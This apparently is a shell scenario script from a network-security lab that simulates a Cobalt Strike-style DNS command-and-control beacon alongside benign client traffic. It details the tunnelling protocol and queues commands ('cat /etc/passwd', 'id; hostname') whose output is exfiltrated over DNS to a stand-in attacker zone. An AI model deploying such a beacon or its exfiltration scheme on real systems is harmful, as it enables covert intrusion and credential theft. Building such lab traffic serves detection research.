# sourced by run-scenario.sh: the story played between the hosts
# DNS command and control through the site's resolver (modelled on Cobalt Strike's DNS beacon):
# tools/dns-c2-server.py on the attacker is the authoritative server of cdn-metrics-sync.com and
# the lab's resolver forwards that zone to it; every answer has TTL 0, so every query is forwarded.
# The implant tools/dns-beacon-agent.py on the victim talks only to its resolver: it polls
# A a3f9c2e1.cdn-metrics-sync.com every 5 s +-25 % (28 polls); at poll 8 and poll 18 the answer is
# 0.0.0.1 (a task is pending): it fetches the task (TXT t<seq>.a3f9c2e1…, base64), runs it and
# uploads the output hex-encoded in A query names (…<seq>-<chunk>.r.a3f9c2e1…, then e<seq>-<n>…).
# A benign client resolves corp.lan names and browses the victim's web site meanwhile.
NET=172.31.224; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
C2ZONE=cdn-metrics-sync.com
IMPLANT=a3f9c2e1
DNSMASQ_EXTRA="--server=/$C2ZONE/$NET.66"
services() {
  printf 'nameserver %s\n' $D > "/etc/netns/$P-vic/resolv.conf"    # the victim's resolver is the lab's DNS
  mkdir -p "$RUN/c2out"
  nsx att timeout 400 /usr/bin/python3 "$HERE/tools/dns-c2-server.py" $A "$RUN/c2out" c2 $C2ZONE $IMPLANT \
      '8:id; hostname; uname -m' '18:cat /etc/passwd' >"$RUN/logs/dns-c2.log" 2>&1 &
}
cli_lookups() {
  for n in portal.corp.lan files.corp.lan; do
    nsx cli dig +short @$D $n A >/dev/null || true
    nsx cli dig +short @$D $n AAAA >/dev/null || true
  done
}
play() {
  note "attacker $A (tools/dns-c2-server.py, authoritative for $C2ZONE, UDP 53, TTL 0); victim $V (implant tools/dns-beacon-agent.py, id $IMPLANT; its resolver is $D, it never sends to $A); resolver $D (dnsmasq forwards $C2ZONE to $A); benign client $C"
  cli_lookups
  note "1 beacon: A $IMPLANT.$C2ZONE every 5 s +-25 % (uniform jitter, seed fixed), 28 polls, raw UDP to $D (random txid, a new source port per query, 2 s timeout, one retry); answer 0.0.0.0 idle, 0.0.0.1 task pending"
  note "2 task 1 pending from poll 8: TXT t1.$IMPLANT.$C2ZONE -> base64 of 'id; hostname; uname -m' (run with sh -c; the victim's host name is files); output uploaded as hex in A <hex>.<hex>.1-<chunk>.r.$IMPLANT.$C2ZONE (60 hex chars a label, 2 labels a query), then A e1-<n>.r.$IMPLANT.$C2ZONE"
  note "3 task 2 pending from poll 18: TXT t2.$IMPLANT.$C2ZONE -> base64 of 'cat /etc/passwd' (the victim's own passwd); output uploaded likewise (2-<chunk>, e2-<n>)"
  ( nsx vic unshare -u bash -c "hostname files && exec timeout 240 /usr/bin/python3 '$HERE/tools/dns-beacon-agent.py' $C2ZONE $IMPLANT 5 0.25 28" >"$RUN/logs/agent.log" 2>&1 ) &
  local agentpid=$!
  local r=0
  while kill -0 $agentpid 2>/dev/null && [ $r -lt 14 ]; do
    sleep 15; r=$((r + 1))
    cli_lookups
    [ $((r % 3)) = 1 ] && benign_background
  done
  wait $agentpid || true
  sleep 1
  note "   server: $(grep -c ' poll ' "$RUN/logs/dns-c2.log") polls, $(grep -c 'task fetch' "$RUN/logs/dns-c2.log") task fetches, $(grep -c 'result chunk' "$RUN/logs/dns-c2.log") result chunks, $(grep -c 'result end' "$RUN/logs/dns-c2.log") results complete"
  ls -l "$RUN/c2out" > "$RUN/logs/c2out.txt"; cp "$RUN"/c2out/* "$RUN/logs/" 2>/dev/null || true
  note "4 the benign client resolves portal/files.corp.lan (A and AAAA) every ~15 s with dig, and browses the victim's site (Chrome UA) every ~45 s"
}
